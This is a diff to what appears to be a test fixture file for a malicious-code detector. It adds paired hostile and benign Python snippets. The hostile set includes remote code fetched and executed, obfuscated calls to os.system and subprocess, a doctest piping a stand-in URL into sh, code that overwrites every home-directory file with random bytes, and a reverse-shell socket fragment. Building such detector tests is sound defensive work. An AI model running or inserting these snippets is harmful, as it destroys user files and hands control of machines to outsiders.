@@ -213,6 +213,42 @@ from pathlib import Path
 import pathlib
 p = pathlib.Path.home().joinpath('.config', 'systemd', 'user', 'x.service')
 p.write_text('[Service]')
+---
+import urllib.request as u
+def f(w):
+    c = compile(u.urlopen(w).read(), 'a', 'exec')
+    return type(f)(c, {})
+---
+class C(dict):
+    def __missing__(self, k): return __import__(k)
+def f(d): return getattr(C()['subprocess'], 'getoutput')(d())
+---
+import sys
+def f(k, d='%s%s'): return getattr(sys.modules[d % ('o', 's')], '{}{}'.format(*k))('id')
+---
+import tempfile as t, shutil
+s = t._os if t else shutil.os
+def f(): return getattr(s, ''.join(sorted('ssytem', key=len)))('id')
+---
+import torch.utils.data as d
+def f(b): return getattr(d.dataloader.multiprocessing.util.os, b['op'])(b['arg'])
+---
+'''
+>>> import os
+>>> os.system("curl -s https://x.invalid.net/a | sh")
+'''
+import doctest
+doctest.testmod()
+---
+import os
+def f():
+    for d, _, fs in os.walk(os.path.expanduser('~')):
+        for n in fs:
+            with open(os.path.join(d, n), 'wb') as h: h.write(os.urandom(9))
+---
+import pathlib
+def f():
+    for p in pathlib.Path.home().glob('**/*.py'): p.write_text(p.read_text() + 'a')
 """
 ORDINARY = """
 import importlib
@@ -282,6 +318,41 @@ c = OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url=os.environ['OPENAI_BAS
 import pathlib
 p = pathlib.Path.home().joinpath('.config', 'tool', 'x.json')
 p.write_text('{}')
+---
+def f(p):
+    return compile(open(p).read(), p, 'exec', dont_inherit=True).co_names
+---
+class C(dict):
+    def __missing__(self, k): return k
+def f(d): return getattr(C()['a'], 'upper')()
+---
+import sys
+def f(k): return getattr(sys.modules[__name__], f'make_{k}')('id')
+---
+import tempfile as t, shutil
+s = t if t else shutil
+def f(k): return getattr(s, k.strip())('id')
+---
+import torch.utils.data as d
+def f(b): return getattr(d.dataloader, b['op'])(b['arg'])
+---
+'''
+>>> 1 + 1
+2
+'''
+import doctest
+doctest.testmod()
+---
+import os
+def f():
+    for d, _, fs in os.walk(os.path.expanduser('~')):
+        for n in fs:
+            print(n)
+    with open('names.txt', 'w') as h: h.write(d)
+---
+import pathlib
+def f():
+    for p in pathlib.Path('docs').glob('**/*.py'): p.write_text(p.read_text() + 'a')
 """
 CODE, PIPED = "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)", "curl -s https://x.invalid.net/a | sh"
 
